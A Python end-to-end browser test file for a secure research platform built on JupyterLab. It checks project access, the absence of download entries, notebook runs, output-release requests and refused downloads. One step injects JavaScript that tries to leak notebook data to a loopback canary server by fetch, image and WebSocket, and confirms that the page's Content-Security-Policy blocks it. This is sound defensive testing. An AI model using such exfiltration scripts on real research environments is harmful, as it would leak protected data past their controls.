"""The researcher's side in a real browser: project list, spawn, JupyterLab, release from Lab.

Bob signs in on the identity provider's page, sees only his project, starts its server from the
hub's project list, and JupyterLab opens (through the hub-side download guard). He opens the
getting-started notebook, runs all its cells over the kernel websocket, and a safe table is
written to outputs/. From JupyterLab's Release menu he opens output checking for his project,
creates a request with that table and submits it; the Release menu also shows his requests with
their state. JupyterLab offers no download, export or print command, and the notebook page's
Content-Security-Policy stops a script in it from talking to another origin (a canary server
the test started, on loopback, receives nothing). Screenshots of the key pages go to
$HAVRE_SCREENSHOTS_DIR (docs/screenshots/ to refresh the docs; a temporary folder otherwise).

The checkers' side, the release and the download of the released file are in
test_release_story_browser.py.
"""

from __future__ import annotations

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.e2e.conftest import NETWORK_CHANGED, STEP_TIMEOUT_MS
from tests.e2e.test_release_story_browser import post_form, screenshot

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect

pytestmark = pytest.mark.docker

#: what the getting-started notebook's safe table is called in the outputs folder
SAFE_TABLE = "getting-started-bob/output_0.csv"  # bob runs it (one session folder per person)
#: running all cells: a kernel starts, pandas loads, two checked tables
RUN_ALL_TIMEOUT_MS = 120_000
#: JupyterLab menu entries that hand files to the browser, none of which may appear
DOWNLOAD_ENTRIES = {
    "Download",
    "Copy Download Link",
    "Open in New Browser Tab",
    "Save and Export Notebook As",
    "Print…",
}


def menu_bar(page, label: str) -> None:
    page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(f"^{label}$")).click()
    expect(page.locator(".lm-Menu").first).to_be_visible()


def open_menu_labels(page) -> list[str]:
    return [t.strip() for t in page.locator(".lm-Menu .lm-Menu-itemLabel").all_inner_texts()]


def menu_item(page, label: str):
    return page.locator(".lm-Menu-itemLabel", has_text=re.compile("^" + re.escape(label)))


#: JupyterLab's own way to call its server: the session cookie plus the XSRF token header
SESSIONS_JS = """async (url) => {
    const xsrf = document.cookie.split("; ").find((c) => c.startsWith("_xsrf="));
    const headers = xsrf ? { "X-XSRFToken": decodeURIComponent(xsrf.slice(6)) } : {};
    return (await fetch(url, { headers })).json();
}"""


def wait_for_one_settled_kernel(page, sessions_url: str, timeout: float = 60) -> None:
    """Wait until the notebook's session has one kernel that stays the same and idle.

    On a notebook's first opening JupyterLab may start a kernel and replace it a moment later;
    cells run in that moment are dropped with the replaced kernel (JupyterLab's behaviour, with
    or without Havre). A person waits for the kernel indicator to settle; so does the test.
    """
    deadline = time.monotonic() + timeout
    previous = None
    while time.monotonic() < deadline:
        sessions = page.evaluate(SESSIONS_JS, sessions_url)
        assert isinstance(sessions, list), sessions
        kernels = [(s["kernel"]["id"], s["kernel"]["execution_state"]) for s in sessions]
        if len(kernels) == 1 and kernels[0][1] == "idle" and kernels == previous:
            return
        previous = kernels
        page.wait_for_timeout(1000)
    raise AssertionError(f"the notebook's kernel did not settle: {previous}")


class Canary:
    """An HTTP server on loopback that records every request it gets."""

    def __init__(self) -> None:
        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                hits.append(self.path)
                body = b"<!doctype html><title>canary</title>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def canary():
    server = Canary()
    yield server
    server.close()


@pytest.fixture
def bob_stops_afterwards(enclave):
    """Stop bob's diabetes server after the test (other tests start it themselves)."""
    yield
    bob = enclave.user("bob")
    if bob.server_model("diabetes") is not None:
        bob.stop_server("diabetes")


def test_researcher_goes_from_jupyterlab_to_a_submitted_request(
    enclave, sign_in, canary, bob_stops_afterwards
):
    bob = sign_in("bob")
    page = bob.page
    violations: list[str] = []
    page.on(
        "console",
        lambda message: (
            violations.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    failures: list[str] = []  # what the page could not load, to explain a failure below
    page.on("requestfailed", lambda r: failures.append(f"{r.url}: {r.failure}"))
    page.on(
        "response", lambda r: failures.append(f"{r.status} {r.url}") if r.status >= 500 else None
    )

    # 1. the hub's home page lists bob's project, and only his
    expect(page.locator("#havre-home")).to_have_text("Your projects")
    rows = page.locator("#havre-projects tbody tr")
    expect(rows).to_have_count(1)
    expect(rows.first).to_contain_text("Diabetes care pathways")
    expect(page.locator("#project-cardio")).to_have_count(0)
    screenshot(page, "researcher-projects.png")

    # 2. start the server; JupyterLab opens behind the guard
    page.click("#start-diabetes")
    page.wait_for_url(re.compile(r"/user/bob/diabetes/lab"), timeout=2 * STEP_TIMEOUT_MS)
    listing = page.locator(".jp-DirListing-item", has_text="getting-started.ipynb")
    expect(listing).to_be_visible()
    if any(NETWORK_CHANGED in f for f in failures):
        # Chromium drops requests in flight when the host's interfaces change (Docker adds
        # one per container, and other tests' containers come and go): reload, as a person would
        failures.clear()
        page.reload()
        expect(listing).to_be_visible()
    lab_failures = [f for f in failures if "/user/bob/diabetes/" in f]
    assert not lab_failures, lab_failures
    expect(page.locator(".jp-Dialog")).to_have_count(0)  # no error dialog (theme, settings...)

    # 3. no download, export or print entries: file browser's context menu and the File menu
    listing.click(button="right")
    expect(page.locator(".lm-Menu").first).to_be_visible()
    context_entries = open_menu_labels(page)
    assert "Rename" in context_entries, context_entries  # control: it is the context menu
    assert not DOWNLOAD_ENTRIES & set(context_entries), context_entries
    screenshot(page, "researcher-no-download-in-lab.png")
    page.keyboard.press("Escape")
    menu_bar(page, "File")
    file_entries = open_menu_labels(page)
    assert "Save All" in file_entries, file_entries  # control: it is the File menu
    assert not DOWNLOAD_ENTRIES & set(file_entries), file_entries
    page.keyboard.press("Escape")

    # 4. the getting-started notebook: run all, the safe table is written with its verdict
    listing.dblclick()
    expect(page.locator(".jp-NotebookPanel .jp-Notebook")).to_be_visible()
    expect(page.locator(".jp-Notebook-ExecutionIndicator[data-status='idle']")).to_be_visible(
        timeout=RUN_ALL_TIMEOUT_MS
    )
    expect(page.locator(".jp-Dialog")).to_have_count(0)  # the kernel starts without asking
    wait_for_one_settled_kernel(page, bob.url("user/bob/diabetes/api/sessions"))
    menu_bar(page, "Run")
    menu_item(page, "Run All Cells").click()
    outputs = page.locator(".jp-OutputArea-output")
    expect(outputs.filter(has_text=re.compile(r"FAIL\s+output_1"))).to_have_count(
        1, timeout=RUN_ALL_TIMEOUT_MS
    )
    expect(outputs.filter(has_text=re.compile(r"PASS\s+output_0"))).to_have_count(1)
    # the last cell: safe.results() lists both outputs (so results.json is written)
    expect(outputs.filter(has_text="output_1")).to_have_count(2)
    screenshot(page, "researcher-notebook.png")

    # 5. a script in the notebook page can't talk to another origin (the CSP); the canary is
    # reachable (a control, from a page without the policy) but gets nothing from the notebook
    blocked = page.evaluate(
        """async (url) => {
            const out = {};
            try { await fetch(url + "/fetch-leak?cells=4711"); out.fetch = "sent"; }
            catch (e) { out.fetch = "blocked"; }
            await new Promise((done) => {
                const img = new Image();
                img.onload = img.onerror = done;
                img.src = url + "/image-leak?cells=4711";
            });
            try {
                await new Promise((ok, fail) => {
                    const ws = new WebSocket(url.replace("http", "ws") + "/ws-leak");
                    ws.onopen = ok; ws.onerror = fail;
                });
                out.ws = "sent";
            } catch (e) { out.ws = "blocked"; }
            return out;
        }""",
        canary.url,
    )
    assert blocked == {"fetch": "blocked", "ws": "blocked"}, blocked
    assert canary.hits == [], canary.hits
    assert violations, "the browser reported no Content-Security-Policy violation"
    control = bob.context.new_page()
    control.goto(canary.url + "/control")
    control.close()
    assert "/control" in canary.hits and not [p for p in canary.hits if "leak" in p], canary.hits

    # 6. from Lab's Release menu to output checking for this project, in a new tab
    menu_bar(page, "Release")
    assert open_menu_labels(page) == [
        "Ask for a Release of Outputs (diabetes)…",
        "My Release Requests and Their Status",
    ]
    with bob.context.expect_page() as opened:
        menu_item(page, "Ask for a Release of Outputs").click()
    egress = opened.value
    egress.wait_for_load_state()
    assert egress.url == bob.egress("projects/diabetes/new"), egress.url
    egress.fill("#title", "Stays by age band and sex, from JupyterLab")
    with egress.expect_navigation(url=re.compile(r"/services/egress/requests/[A-Za-z0-9_-]+$")):
        egress.get_by_role("button", name="Create draft").click()
    request_id = egress.url.rsplit("/", 1)[1]
    expect(egress.locator("#path option", has_text=SAFE_TABLE)).to_have_count(1)
    egress.select_option("#path", SAFE_TABLE)
    post_form(egress, "#add-file")
    expect(egress.locator("#files")).to_contain_text("output_0.csv")
    expect(egress.locator("#files")).to_contain_text("SDC: pass")  # the server's own check
    context_form = egress.locator("#contexts fieldset[data-group=main]")
    context_form.locator("textarea[name=context]").fill("Hospital stays by age band and sex")
    context_form.locator("textarea[name=controls]").fill("Counts of at least 10 in every cell")
    with egress.expect_navigation():
        egress.click("#save-contexts")
    post_form(egress, "#action-submit")
    expect(egress.locator("#state")).to_have_attribute("data-state", "submitted")
    screenshot(egress, "researcher-request-from-lab.png")
    egress.close()

    # 7. the Release menu's other entry: his requests and their state
    menu_bar(page, "Release")
    with bob.context.expect_page() as opened:
        menu_item(page, "My Release Requests").click()
    requests_page = opened.value
    requests_page.wait_for_load_state()
    row = requests_page.locator("tr", has=requests_page.get_by_role("link", name=request_id))
    badge = row.first.locator("[data-state]")
    expect(badge).to_have_attribute("data-state", "submitted")
    expect(badge).to_have_text("Waiting for review")  # the state in words
    requests_page.close()


def test_a_project_the_user_is_not_in_gets_a_clear_page(enclave, sign_in):
    """Bob asks for cardio's server by its address: a page says why, and where to go."""
    bob = sign_in("bob")
    page = bob.page
    response = page.goto(bob.url("hub/spawn/bob/cardio"))
    assert response is not None and response.status == 403
    expect(page.locator("#havre-not-member")).to_contain_text(
        "You are not a member of this project"
    )
    expect(page.get_by_role("link", name="Back to your projects")).to_be_visible()
    screenshot(page, "researcher-not-a-member.png")


def test_a_refused_download_shows_a_page_that_says_why(enclave, alice_cardio, sign_in):
    """The address of a raw file, typed in the browser: the guard's page, not the file."""
    alice_api, _container = alice_cardio
    out = alice_api.run_code("cardio", "open('outputs/typed.csv', 'w').write('a,b\\n4711,1\\n')")
    assert out["error"] is None, out
    alice = sign_in("alice")
    page = alice.page
    for route in ("files/outputs/typed.csv?download=1", "nbconvert/html/getting-started.ipynb"):
        response = page.goto(alice.url(f"user/alice/cardio/{route}"))
        assert response is not None and response.status == 403, route
        expect(page.locator("#havre-refusal")).to_contain_text("no downloads")
        assert "4711" not in page.content()
    screenshot(page, "researcher-download-refused.png")
